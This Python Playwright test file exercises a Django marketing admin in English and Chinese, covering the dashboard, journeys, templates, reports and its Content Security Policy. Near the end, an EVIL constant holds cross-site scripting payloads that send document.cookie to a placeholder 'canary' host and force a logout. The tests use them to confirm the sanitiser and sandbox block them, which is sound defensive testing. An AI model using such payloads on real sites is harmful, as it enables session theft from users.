"""The admin in a real browser, in both languages: what an operator sees on the first day.

With PERENNIAL_SHOTS set to a folder, the pages are kept there as pictures (docs/images are made so).
"""

from __future__ import annotations

import os
import re
import shutil
from collections.abc import Generator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect, sync_playwright

from campaigns.models import Journey
from config.content_policy import POLICY
from messaging.admin import editing
from messaging.models import Template
from messaging.render import Rendered
from segments.models import Profile, Segment
from tests.admin.seed import make_shop
from tests.admin.walk import pages
from tests.harness import wait_until

CHROMIUM = shutil.which("chromium")
SHOTS = os.environ.get("PERENNIAL_SHOTS", "")
WORDS = {
    "en-US": {
        "dashboard": "People by stage", "stage": "At risk", "flow": "Wait for “Order Completed”", "here": "here now",
        "subject": "Welcome, Mei – your gift is inside", "report": "UTM conversions", "revenue": "Revenue",
    },
    "zh-CN": {
        "dashboard": "各阶段用户", "stage": "休眠预警", "flow": "等待", "here": "现在在此", "subject": "Mei",
        "report": "UTM 转化", "revenue": "收入",
    },
}  # fmt: skip

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="the distribution's Chromium is not installed"),
]


@pytest.fixture
def shop(transactional_db: None, monkeypatch: pytest.MonkeyPatch) -> datetime:
    """Fill the database that the live server reads. Playwright keeps a loop in this thread; Django may still ask."""
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
    now = datetime.now(UTC)
    make_shop(now)
    return now


@pytest.fixture(params=sorted(WORDS))
def language(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def page(shop: datetime, live_server: Any, language: str) -> Generator[Page]:
    """A logged-in browser page in the language; whatever it logs as an error fails the test."""
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        context = browser.new_context(
            locale=language, viewport={"width": 1360, "height": 900}, base_url=live_server.url
        )
        page, errors = context.new_page(), []
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.on("console", lambda said: errors.append(said.text) if "Content Security Policy" in said.text else None)
        page.goto("/admin/")
        page.fill("#id_username", "root")
        page.fill("#id_password", "perennial")
        page.click("button[type=submit]")
        page.wait_for_selector("[data-page=dashboard]")
        yield page
        browser.close()
    assert errors == []


def keep(page: Page, name: str, language: str) -> None:
    """Keep a picture of the whole page, if pictures are asked for."""
    if not SHOTS:
        return
    page.wait_for_load_state("networkidle")
    height = page.evaluate("document.querySelector('#main').scrollHeight")
    page.set_viewport_size({"width": 1360, "height": max(900, min(int(height), 2200))})
    page.wait_for_timeout(700)
    end = "-zh" if language.startswith("zh") else ""
    page.screenshot(path=str(Path(SHOTS) / f"{name}{end}.png"))
    page.set_viewport_size({"width": 1360, "height": 900})


def test_the_first_day_of_an_operator(page: Page, language: str) -> None:
    words = WORDS[language]
    expect(page.get_by_text(words["dashboard"]).first).to_be_visible()
    expect(page.get_by_text(words["stage"]).first).to_be_visible()
    canvas = page.locator("canvas.chart").first
    wait_until(lambda: (canvas.bounding_box() or {"height": 0})["height"] > 150, what="the chart is drawn")
    assert page.evaluate("Chart.getChart(document.querySelector('canvas.chart')).data.datasets.length") == 2
    keep(page, "dashboard", language)

    journey = Journey.objects.get(key="churn-winback")
    page.goto(f"/admin/campaigns/journey/{journey.pk}/change/")
    nodes = page.locator("[data-flow] [data-node]")
    assert nodes.count() == len(journey.draft["nodes"]) + 1
    expect(page.locator("[data-node=return]")).to_contain_text(words["flow"])
    expect(page.locator("[data-node=return]")).to_contain_text(words["here"])
    keep(page, "journey", language)

    template = Template.objects.get(key="new-user-welcome")
    page.goto(f"/admin/messaging/template/{template.pk}/change/")
    shown = page.frame_locator("iframe.p-preview")
    expect(shown.locator("[data-subject]")).to_contain_text(words["subject"])
    if language == "zh-CN":
        page.select_option("#p-preview-form [name=locale]", index=1)
        page.click("#p-preview-form .p-button--main")
        expect(shown.locator("[data-subject]")).to_contain_text(re.compile("[\u4e00-\u9fff]{3}"))
    for pane in ("wide", "narrow"):
        expect(shown.frame_locator(f"[data-pane={pane}]").locator("body")).to_contain_text("HI-7KQ2M4XWAB")
    keep(page, "template", language)

    page.goto("/admin/reports/utm-conversions/")
    expect(page).to_have_title(re.compile(words["report"]))
    expect(page.locator("table.p-table").first).to_contain_text("churn-winback")
    expect(page.locator("table.p-table").first).to_contain_text(words["revenue"])
    keep(page, "report", language)

    segment = Segment.objects.get(key="slipping-away")
    page.goto(f"/admin/segments/segment/{segment.pk}/change/")
    expect(page.locator("[data-count]")).to_have_text(re.compile(r"\d+"))
    keep(page, "segment", language)

    person = Profile.objects.order_by("pk")[1]
    page.goto(f"/admin/segments/profile/{person.pk}/change/")
    before = page.locator("#moments > li").count()
    page.select_option("[name=only]", "messages")
    expect(page.locator("#moments > li[data-kind=fact]")).to_have_count(0)
    assert 0 < page.locator("#moments > li").count() < before
    page.select_option("[name=only]", "")
    expect(page.locator("#moments > li")).to_have_count(before)
    keep(page, "person", language)
    page.goto("/admin/recipes/")
    keep(page, "recipes", language)


@pytest.mark.parametrize("language", ["en-US"], indirect=True)
def test_errors_of_a_draft_show_before_it_is_saved(page: Page, language: str) -> None:
    journey = Journey.objects.get(key="new-user-gift")
    page.goto(f"/admin/campaigns/journey/{journey.pk}/change/")
    page.fill("#id_draft", '{"trigger": {"type": "fact"}, "start": "x", "nodes": {"a": {"type": "wait"}}}')
    page.click("[hx-post*='/flow/']")
    expect(page.locator("#p-draft-flow .p-note-box--bad li").first).to_be_visible()
    assert page.locator("#p-draft-flow .p-note-box--bad li").count() >= 3
    page.fill("#id_draft", '{"a": ')
    page.click("[hx-post*='/flow/']")
    expect(page.locator("#p-draft-flow")).to_contain_text("Not JSON at line 1")


@pytest.mark.parametrize("language", ["en-US"], indirect=True)
def test_the_language_is_switched_by_hand(page: Page, language: str) -> None:
    page.evaluate(
        """() => { const form = document.querySelector('form[action$="/i18n/setlang/"] input[value="zh-hans"]').form;
        form.requestSubmit(); }"""
    )
    expect(page.get_by_text("各阶段用户").first).to_be_visible()


@pytest.mark.parametrize("language", ["en-US"], indirect=True)
def test_every_page_lives_within_the_content_policy(page: Page, language: str) -> None:
    """The fixture fails on whatever the browser refused to load or run."""
    for one in list(pages()):
        if "GET" in one.methods and not one.name.endswith(("frame", "_history", "_delete")):
            if one.url.endswith("/export/"):  # a file, not a page
                continue
            answer = page.goto(one.url)
            assert answer is not None
            if answer.headers.get("content-type", "").startswith("text/html"):
                assert answer.headers["content-security-policy"] == POLICY, one.name


@pytest.mark.parametrize("language", ["en-US"], indirect=True)
def test_a_related_thing_is_added_in_a_pop_up_under_the_policy(page: Page, language: str) -> None:
    page.goto("/admin/campaigns/journey/add/")
    with page.expect_popup() as opened:
        page.locator("#add_id_campaign").dispatch_event("click")
    opened.value.fill("#id_name", "Spring")
    opened.value.fill("#id_key", "spring")
    opened.value.fill("#id_utm_campaign", "spring")
    opened.value.click("[name=_save]")
    expect(page.locator("#id_campaign option:checked")).to_have_text("Spring")


@pytest.mark.parametrize("language", ["en-US"], indirect=True)
def test_a_script_inside_a_page_does_not_run(page: Page, language: str) -> None:
    """Shown to fail without the policy: the page is served again with a script put into it."""

    def put_in(route: Route) -> None:
        answer = route.fetch()
        body = answer.text().replace("</body>", "<script>document.title = 'taken'</script></body>")
        route.fulfill(response=answer, body=body)

    other, refused = page.context.new_page(), []  # the fixture does not listen to this one
    other.route("**/admin/recipes/", put_in)
    other.on("console", lambda said: refused.append(said.text))
    other.goto("/admin/recipes/")
    assert other.title() != "taken"
    assert any("inline script" in text for text in refused)


CANARY = "http://canary.invalid/stolen"
EVIL = (
    f"<script>new Image().src='{CANARY}?'+document.cookie; parent.document.title='taken'</script>"
    f"<img src='data:,' onerror=\"fetch('{CANARY}')\"><form action='/admin/logout/' method=post id=out></form>"
    "<script>document.getElementById('out').submit()</script><p>{{ profile.first_name }}</p>"
)


@pytest.mark.parametrize("language", ["en-US"], indirect=True)
def test_a_hostile_template_is_told_what_is_wrong_with_it(page: Page, language: str) -> None:
    template = Template.objects.get(key="new-user-welcome")
    Template.objects.filter(pk=template.pk).update(
        content={"en": {"subject": "Hi", "html": f"{EVIL}<a href='{{{{ links.unsubscribe }}}}'>x</a>"}}
    )
    page.goto(f"/admin/messaging/template/{template.pk}/change/")
    expect(page.locator("#p-lint")).to_contain_text("<script> is not allowed")
    expect(page.frame_locator("iframe.p-preview").locator("body")).to_contain_text("<script> is not allowed")


@pytest.mark.parametrize("language", ["en-US"], indirect=True)
def test_what_slips_past_the_reading_still_reaches_nothing(
    page: Page, language: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second ring alone: a script in the frame does not run, sees no cookie, and leaves the page around it be."""
    monkeypatch.setattr(editing, "preview_as", lambda *_, **__: Rendered({"subject": "Hi", "html": EVIL}))
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    template = Template.objects.get(key="new-user-welcome")
    page.goto(f"/admin/messaging/template/{template.pk}/change/")
    inside = page.frame_locator("iframe.p-preview").frame_locator("[data-pane=wide]")
    expect(inside.locator("p")).to_have_text("{{ profile.first_name }}")
    page.wait_for_timeout(500)
    title = page.title()
    page.goto(f"/admin/messaging/template/{template.pk}/frame/")
    expect(page.frame_locator("[data-pane=narrow]").locator("p")).to_have_text("{{ profile.first_name }}")
    page.wait_for_timeout(500)
    assert any("/try/" in url for url in asked)
    assert any("/frame/" in url for url in asked)
    assert not [url for url in asked if "canary" in url or "logout" in url]
    assert "taken" not in title
    page.goto("/admin/")
    expect(page.locator("[data-page=dashboard]")).to_be_visible()
